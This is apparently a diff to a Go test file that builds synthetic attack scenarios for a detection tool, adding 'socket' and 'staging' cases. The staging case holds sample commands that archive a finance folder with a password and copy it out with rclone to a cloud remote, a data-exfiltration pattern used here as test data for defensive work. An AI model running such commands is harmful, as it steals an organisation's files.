@@ -102,6 +102,16 @@ func attacks() map[string]func() plot {
 			b.Host.Name, b.Time = "ws-18", b.Time+netcase.Hour
 			return plot{batch: netcase.Batch{Processes: []netcase.Process{a, b}}, span: netcase.Span{Start: monday, End: monday + 2*netcase.Hour}}
 		},
+		"socket": func() plot {
+			c := new(chain).service(1, rogue).start(2, 7, rogue, rogue).call(3, 7, rogue, socketPeer).call(90, 7, rogue, socketPeer)
+			return plot{batch: netcase.Batch{Processes: c.list}, span: netcase.Span{Start: monday, End: monday + 2*netcase.Hour}}
+		},
+		"staging": func() plot {
+			return plot{span: netcase.Span{Start: monday, End: monday + 3*netcase.Hour}, batch: netcase.Batch{Processes: []netcase.Process{
+				packing(netcase.Hour, `C:\ProgramData\rar.exe`, `rar.exe a -hpSecret C:\ProgramData\a1.rar D:\Finance\*`),
+				packing(2*netcase.Hour, `C:\ProgramData\rclone.exe`, `rclone copy C:\ProgramData\a1.rar mega:x`),
+			}}}
+		},
 		"persistence": func() plot {
 			w := afterLogins()
 			return plot{batch: w.batch, span: netcase.Span{Start: monday, End: monday + 31*netcase.Hour}}
